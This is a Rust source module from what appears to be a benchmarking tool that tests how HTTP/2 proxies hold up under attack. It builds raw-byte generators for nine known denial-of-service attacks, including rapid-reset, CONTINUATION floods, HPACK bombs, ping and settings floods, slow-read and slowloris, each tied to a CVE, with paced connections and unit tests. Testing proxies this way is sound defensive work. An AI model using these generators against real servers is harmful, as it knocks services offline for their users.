//! The attacks: what each connection of an attacker says, as raw bytes.

use std::time::Duration;

use crate::h2::{self, Field, flag, kind, setting};

/// Requests of one step: with `PACE` and eight connections 200,000 a second.
const REQUESTS: u32 = 100;
/// Frames of one step that are no requests: a million a second.
const FRAMES: u32 = 500;
/// What is offered is limited, so that it is the same for every proxy, and the attacker does not
/// use up the CPU that it shares with good clients.
const PACE: Duration = Duration::from_millis(4);
/// CANCEL (RFC 9113 §7).
const CANCEL: u32 = 8;
/// Streams that a proxy is expected to allow at a time.
const STREAMS: u32 = 100;

/// An attack.
#[derive(Debug)]
pub struct Attack {
    /// The word that selects it.
    pub name: &'static str,
    /// What it does, for the JSON and the documentation.
    pub says: &'static str,
    /// Connections at a time; one that the proxy closes is opened again.
    pub connections: usize,
    /// Whether the attacker reads what the proxy sends.
    pub reads: bool,
    /// Time between two steps of a connection.
    pub pace: Duration,
    /// What a connection says first.
    pub(super) open: fn(&mut Voice),
    /// What it says next, over and over.
    pub(super) step: fn(&mut Voice),
}

/// What a connection of the attacker says.
#[derive(Debug)]
pub(super) struct Voice {
    /// Bytes to be sent.
    pub(super) out: Vec<u8>,
    /// Frames, or pieces of a head, written so far.
    pub(super) frames: u64,
    next: u32,
}

impl Voice {
    pub(super) fn new() -> Self {
        Self { out: Vec::new(), frames: 0, next: 1 }
    }

    fn frame(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
        h2::frame(&mut self.out, kind, flags, stream, payload);
        self.frames += 1;
    }

    fn number(&mut self, kind: u8, stream: u32, value: u32) {
        self.frame(kind, 0, stream, &value.to_be_bytes());
    }

    /// A request on a stream of its own; the identifier is told.
    fn ask(&mut self, flags: u8, path: &str, more: &[u8]) -> u32 {
        let stream = self.next;
        // Identifiers used up: the proxy closes, and the connection begins anew.
        self.next = self.next.saturating_add(2);
        let method = Field::Known(if flags & flag::END_STREAM == 0 { 3 } else { 2 });
        let fields = [method, Field::Known(6), Field::Value(4, path)];
        let mut block = h2::Block::of(&fields, 0).plain;
        block.push(1);
        h2::string(&mut block, crate::tls::HOST);
        block.extend_from_slice(more);
        self.frame(kind::HEADERS, flags, stream, &block);
        stream
    }

    fn greet(&mut self, pairs: &[(u16, u32)]) {
        self.out.extend_from_slice(h2::PREFACE);
        h2::settings(&mut self.out, pairs);
    }
}

const WHOLE: u8 = flag::END_HEADERS | flag::END_STREAM;

/// All attacks, in the table's order.
pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "rapid-reset",
        says: "requests that are reset at once (CVE-2023-44487)",
        connections: 8,
        reads: true,
        pace: PACE,
        open: |voice| voice.greet(&[]),
        step: |voice| {
            for _ in 0..REQUESTS {
                let stream = voice.ask(WHOLE, "/1k", &[]);
                voice.number(kind::RST_STREAM, stream, CANCEL);
            }
        },
    },
    Attack {
        name: "made-you-reset",
        says: "requests that make the proxy reset them: updates of a window by nothing \
               (CVE-2025-8671)",
        connections: 8,
        reads: true,
        pace: PACE,
        open: |voice| voice.greet(&[]),
        step: |voice| {
            for _ in 0..REQUESTS {
                let stream = voice.ask(WHOLE, "/1k", &[]);
                voice.number(kind::WINDOW_UPDATE, stream, 0);
            }
        },
    },
    Attack {
        name: "continuation",
        says: "a header block without end in small CONTINUATION frames (CVE-2024-27316)",
        connections: 8,
        reads: true,
        pace: PACE,
        open: |voice| {
            voice.greet(&[]);
            voice.ask(flag::END_STREAM, "/1k", &[]);
        },
        // A field of one letter without value.
        step: |voice| {
            (0..FRAMES).for_each(|_| voice.frame(kind::CONTINUATION, 0, 1, b"\x00\x01a\x00"))
        },
    },
    Attack {
        name: "hpack-bomb",
        says: "16,000 fields of one byte each per request, replies held by a window of 0 \
               (CVE-2026-49975)",
        connections: 16,
        reads: true,
        pace: PACE.saturating_mul(4),
        open: |voice| {
            voice.greet(&[(setting::INITIAL_WINDOW_SIZE, 0)]);
            voice.ask(WHOLE, "/1k", b"\x40\x01a\x00");
        },
        step: |voice| {
            voice.ask(WHOLE, "/1k", &[0xbe; 16_000]);
        },
    },
    Attack {
        name: "hpack-value",
        says: "a value of 4,000 bytes named 16,000 times per request (CVE-2016-6581)",
        connections: 16,
        reads: true,
        pace: PACE.saturating_mul(4),
        open: |voice| {
            voice.greet(&[(setting::INITIAL_WINDOW_SIZE, 0)]);
            let mut field = b"\x40\x01a".to_vec();
            h2::string(&mut field, &"v".repeat(4000));
            voice.ask(WHOLE, "/1k", &field);
        },
        step: |voice| {
            voice.ask(WHOLE, "/1k", &[0xbe; 16_000]);
        },
    },
    Attack {
        name: "ping-flood",
        says: "PING after PING, the answers not read (CVE-2019-9512)",
        connections: 8,
        reads: false,
        pace: PACE,
        open: |voice| voice.greet(&[]),
        step: |voice| (0..FRAMES).for_each(|_| voice.frame(kind::PING, 0, 0, b"attacker")),
    },
    Attack {
        name: "settings-flood",
        says: "SETTINGS after SETTINGS, the answers not read (CVE-2019-9515)",
        connections: 8,
        reads: false,
        pace: PACE,
        open: |voice| voice.greet(&[]),
        step: |voice| {
            for size in 0..FRAMES {
                h2::settings(&mut voice.out, &[(setting::HEADER_TABLE_SIZE, 4096 - size % 2)]);
                voice.frames += 1;
            }
        },
    },
    Attack {
        name: "slow-read",
        says: "100 requests for 10 MB per connection, the window for replies stays 0 \
               (CVE-2019-9511)",
        connections: 2,
        reads: true,
        pace: Duration::from_secs(1),
        open: |voice| {
            voice.greet(&[(setting::INITIAL_WINDOW_SIZE, 0)]);
            for _ in 0..STREAMS {
                voice.ask(WHOLE, "/10m", &[]);
            }
        },
        step: |voice| voice.number(kind::WINDOW_UPDATE, 0, 1),
    },
    Attack {
        name: "slowloris",
        says: "heads of HTTP/1.1 without end, a byte of each every half second",
        connections: 1000,
        reads: true,
        pace: Duration::from_millis(500),
        open: |voice| {
            voice.out.extend_from_slice(b"GET /1k HTTP/1.1\r\nHost: bench.test\r\nX-Slow: ");
        },
        step: |voice| {
            voice.out.push(b'a');
            voice.frames += 1;
        },
    },
];

/// The attack of a name.
#[must_use]
pub fn find(name: &str) -> Option<&'static Attack> {
    ATTACKS.iter().find(|attack| attack.name == name)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::h2::{Frames, PAYLOAD};

    #[test]
    fn attacks_say_frames_of_a_legal_length_on_streams_of_a_client() {
        for attack in ATTACKS.iter().filter(|attack| attack.name != "slowloris") {
            let mut voice = Voice::new();
            (attack.open)(&mut voice);
            for _ in 0..3 {
                (attack.step)(&mut voice);
            }
            let mut frames = Frames::default();
            frames.feed(&voice.out);
            assert_eq!(frames.preface(), Some(true), "{}", attack.name);
            let (mut count, mut last) = (0, 0);
            while let Some(frame) = frames.cut().unwrap() {
                assert!(frame.payload.len() <= PAYLOAD, "{}", attack.name);
                if frame.kind == kind::HEADERS {
                    assert!(frame.stream % 2 == 1 && frame.stream > last, "{}", attack.name);
                    last = frame.stream;
                }
                count += 1;
            }
            // The first SETTINGS are no part of the attack.
            assert_eq!(count, voice.frames + 1, "{}", attack.name);
        }
    }

    #[test]
    fn a_slow_head_never_ends() {
        let slow = find("slowloris").unwrap();
        let mut voice = Voice::new();
        (slow.open)(&mut voice);
        (0..100).for_each(|_| (slow.step)(&mut voice));
        assert!(voice.out.starts_with(b"GET "));
        assert_eq!(memchr::memmem::find(&voice.out, b"\r\n\r\n"), None);
    }
}
